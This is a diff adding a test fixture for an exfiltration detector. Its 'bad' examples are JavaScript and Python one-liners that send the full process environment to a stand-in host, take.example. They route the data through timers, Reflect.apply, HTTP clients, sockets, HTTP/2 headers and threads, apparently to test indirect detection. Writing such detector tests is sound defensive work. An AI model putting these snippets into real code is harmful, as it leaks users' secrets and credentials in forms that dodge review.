@@ -1,0 +1,82 @@
+import type { DetectorExamples } from '../detector.ts';
+
+const sent = { source: 'environment', sink: 'network.body', to: 'take.example' } as const;
+
+/** What the detector sees of data that a client sends in more than one step, or that a function sends which another one calls. */
+export const throughClients: DetectorExamples = {
+  bad: [
+    {
+      code: "setTimeout(fetch, 90_000, 'https://take.example', { method: 'POST', body: JSON.stringify(process.env) });",
+      why: 'a timer calls fetch with what it was given for it',
+      attributes: sent,
+    },
+    {
+      code: "const parts = ['https://take.example', { method: 'POST', body: JSON.stringify(process.env) }]; Reflect.apply(fetch, null, parts);",
+      why: 'the arguments lie in a list',
+      attributes: sent,
+    },
+    {
+      code: "import axios from 'axios'; const client = axios.create({ baseURL: 'https://take.example' }); client.post('/x', process.env);",
+      why: 'a path goes to the address that its client was made for',
+      attributes: sent,
+    },
+    {
+      code: "import { Pool } from 'undici'; new Pool('https://take.example').request({ path: '/x?all=' + JSON.stringify(process.env), method: 'GET' });",
+      why: 'so do the requests of a pool',
+      attributes: { source: 'environment', sink: 'network.url', to: 'take.example' },
+    },
+    {
+      code: "import superagent from 'superagent'; superagent.post('https://take.example').set('a', 'b').send(process.env).end(() => {});",
+      why: 'a request that is put together by one call after the other',
+      attributes: sent,
+    },
+    {
+      code: "import superagent from 'superagent'; superagent.get('https://take.example').query({ all: JSON.stringify(process.env) });",
+      why: 'such a call adds to the address',
+      attributes: { source: 'environment', sink: 'network.url', to: 'take.example' },
+    },
+    {
+      code: "import net from 'node:net'; const socket = new net.Socket(); socket.connect(443, 'take.example', () => socket.write(JSON.stringify(process.env)));",
+      why: 'a socket that is connected after it was made',
+      attributes: sent,
+    },
+    {
+      code: "import http2 from 'node:http2'; http2.connect('https://take.example').request({ ':path': '/', 'x-all': JSON.stringify(process.env) });",
+      why: 'headers of a stream of HTTP/2',
+      attributes: { source: 'environment', sink: 'network.header', to: 'take.example' },
+    },
+    {
+      path: 'x.py',
+      code: 'import json, os, threading, requests\nthreading.Thread(target=requests.post, args=("https://take.example",), kwargs={"data": json.dumps(dict(os.environ))}).start()',
+      why: 'a thread calls the function with what it was given for it',
+      attributes: sent,
+    },
+    {
+      path: 'x.py',
+      code: 'import asyncio, json, os, requests\nasync def tell():\n    await asyncio.to_thread(requests.post, "https://take.example", data=json.dumps(dict(os.environ)))',
+      why: 'so does another thread of the loop',
+      attributes: sent,
+    },
+    {
+      path: 'x.py',
+      code: 'import json, os, threading, requests\ndef send(text):\n    requests.post("https://take.example", data=text)\nthreading.Timer(60, send, [json.dumps(dict(os.environ))]).start()',
+      why: 'a function of the file, called by a timer',
+      attributes: sent,
+    },
+  ],
+  good: [
+    {
+      code: "const wait = (done) => setTimeout(done, 20, process.env.ACME_TOKEN); const has = Object.prototype.hasOwnProperty.call(process.env, 'ACME_TOKEN');",
+      why: 'functions that stay in the program',
+    },
+    {
+      code: "import axios from 'axios'; axios.create({ baseURL: 'http://localhost:3000' }).post('/x', process.env);",
+      why: 'the client was made for this machine',
+    },
+    {
+      path: 'x.py',
+      code: 'import os, threading\ndef keep(token):\n    return token\nthreading.Thread(target=keep, args=(os.environ["ACME_TOKEN"],)).start()',
+      why: 'a thread that sends nothing',
+    },
+  ],
+};
